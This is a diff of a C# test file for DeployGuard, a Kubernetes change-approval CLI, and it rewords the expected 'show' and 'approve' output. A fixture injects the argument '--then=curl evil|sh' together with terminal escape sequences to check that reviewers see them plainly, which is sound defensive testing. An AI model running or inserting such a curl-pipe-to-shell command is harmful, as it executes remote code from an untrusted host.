@@ -2,10 +2,11 @@ using System.IO.Compression;
 using System.Security.Cryptography;
 using System.Text;
 using System.Text.Json.Nodes;
+using DeployGuard.Cli.Views;
 
 namespace DeployGuard.Cli.Tests;
 
-/// <summary><c>deployguard show</c>, and what <c>approve</c> shows before it asks: all that is signed, or plainly that it is not all.</summary>
+/// <summary><c>deployguard show</c>, and what <c>approve</c> shows before the confirmation: everything that is signed, or a clear note that it is incomplete.</summary>
 public class ShowTests
 {
     private const string Before = """{"spec":{"containers":[{"args":["--config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json"],"name":"web"}]}}""";
@@ -29,13 +30,13 @@ public class ShowTests
 
     [TestCase("show")]
     [TestCase("approve")]
-    public async Task AllThatIsSignedIsShown(string command)
+    public async Task EverythingThatIsSignedIsShown(string command)
     {
         var run = await RunAsync(command);
 
         Assert.That((run.ExitCode, run.Error), Is.EqualTo((0, "")));
         Assert.That(run.Output, Does.Contain($"""
-            All that differs from revision {HashOf(Before)}, which ran when this was asked for at 2026-11-27 06:00:00Z: 2 fields
+            Differences from revision {HashOf(Before)}, which ran when the change was requested at 2026-11-27 06:00:00Z: 2 fields
             Access to the node
               + spec.hostPID: true
             Command and arguments
@@ -43,41 +44,41 @@ public class ShowTests
                   - * --config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json
                   + * --config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json --then=curl evil|sh
             """));
-        Assert.That(run.Output, Does.Not.Contain("NOT ALL"));
+        Assert.That(run.Output, Does.Not.Contain("INCOMPLETE"));
     }
 
     [Test]
-    public async Task WhereNothingRanBeforeTheWholeTemplateIsShown()
+    public async Task OfANewWorkloadTheCompleteTemplateIsShown()
     {
         Server.Template = Template(Side(After), null);
 
-        Assert.That((await RunAsync("show")).Output, Does.Contain("The whole template, because nothing ran before: 3 fields").And.Contain("  + spec.containers[web].name: web"));
+        Assert.That((await RunAsync("show")).Output, Does.Contain("The complete template, because nothing ran before it: 3 fields").And.Contain("  + spec.containers[web].name: web"));
     }
 
     [Test]
-    public async Task WhereTheRevisionBeforeIsNotKnownItSaysSo()
+    public async Task AnUnknownPreviousRevisionIsReported()
     {
         Server.Template = Template(Side(After), null);
         Server.Template["spec"]!["beforeIsUnknown"] = true;
 
-        Assert.That((await RunAsync("show")).Output, Does.Contain("The whole template, because what it replaces is not on record"));
+        Assert.That((await RunAsync("show")).Output, Does.Contain("The complete template, because the revision before it is not on record"));
     }
 
     [Test]
-    public async Task WhatTheHashLeavesOutIsShownApart()
+    public async Task FieldsOutsideTheHashAreShownSeparately()
     {
         var after = Side(After);
         after["leftOut"] = Pack("""{"annotations":{"kubectl.kubernetes.io/restartedAt":"\u001b[2Jnow"}}""");
         Server.Template = Template(after, Side(Before));
 
         Assert.That((await RunAsync("show")).Output, Does.EndWith("""
-            Not part of what is signed (the hash leaves it out, and it may change without another approval)
+            Not signed (the hash leaves it out, and it may change without a new approval)
               + annotations[kubectl.kubernetes.io/restartedAt]: <ESC>[2Jnow
             """));
     }
 
     [Test]
-    public async Task AnOlderChangeSaysThatItIsCutAndHowToSeeAll()
+    public async Task AnIncompleteChangeIsMarkedAndSaysHowToSeeItInFull()
     {
         Server.Template = null;
         Server.Diff = ["spec.hostPID: (absent) -> true\u001b[2K"];
@@ -85,43 +86,43 @@ public class ShowTests
         var run = await RunAsync("show");
 
         Assert.That(run.ExitCode, Is.EqualTo(1));
-        Assert.That(run.Output, Does.Contain("NOT ALL OF IT CAN BE SHOWN. An approval signs the whole template, also what is missing here.")
+        Assert.That(run.Output, Does.Contain("INCOMPLETE: the template cannot be shown in full. An approval signs all of it, also what is missing here.")
             .And.Contain("  spec.hostPID: (absent) -> true<ESC>[2K")
             .And.EndWith($"ask the requester to apply the change again, then run: kubectl deployguard show {RecordsServer.Change} -n shop"));
     }
 
     [Test]
-    public async Task WhoMayNotReadItIsToldSo()
+    public async Task AMissingPermissionToReadTheTemplateIsReported()
     {
         Server.ShowsTemplates = false;
 
-        Assert.That((await RunAsync("show")).Output, Does.Contain("You may not read the whole template: changetemplates.deployguard.io is forbidden"));
+        Assert.That((await RunAsync("show")).Output, Does.Contain("You may not read the complete template: changetemplates.deployguard.io is forbidden"));
     }
 
     [Test]
-    public async Task ATemplateThatIsTooLargeIsNamedAsSuch()
+    public async Task ATemplateThatIsTooLargeIsReportedAsSuch()
     {
         Server.Template = Template(new JsonObject { ["templateHash"] = HashOf(After), ["bytes"] = 900 * 1024, ["tooLarge"] = true }, null);
 
-        Assert.That((await RunAsync("approve")).Output, Does.Contain("The template is too large to be kept (900 KiB), so nobody can be shown what an approval signs."));
+        Assert.That((await RunAsync("approve")).Output, Does.Contain("The template is too large to record (900 KiB), so it cannot be shown."));
     }
 
     [Test]
-    public async Task ARecordOfAnotherRevisionIsNeverShownAsThisOne()
+    public async Task ATemplateOfAnotherRevisionIsNotShown()
     {
         Server.Hash = HashOf("{}");
 
-        Assert.That((await RunAsync("show")).Output, Does.Contain("The ChangeTemplate on record is not that of this Change.").And.Not.Contain("hostPID"));
+        Assert.That((await RunAsync("show")).Output, Does.Contain("The ChangeTemplate on record is of another revision.").And.Not.Contain("hostPID"));
     }
 
     [Test]
-    public async Task ATemplateThatDoesNotHashToWhatItSaysIsNotShown()
+    public async Task ATemplateThatDoesNotMatchItsHashIsNotShown()
     {
         var forged = Side(Before);
         forged["templateHash"] = HashOf(After);
         Server.Template = Template(forged, null);
 
-        Assert.That((await RunAsync("show")).Output, Does.Contain("The template on record is not the one that the hash of this Change stands for."));
+        Assert.That((await RunAsync("show")).Output, Does.Contain("The template on record does not match the hash of this Change."));
     }
 
     private Task<CommandRun> RunAsync(string command) => Server.RunAsync([command, RecordsServer.Change, .. command == "approve" ? (string[])["--yes"] : []]);
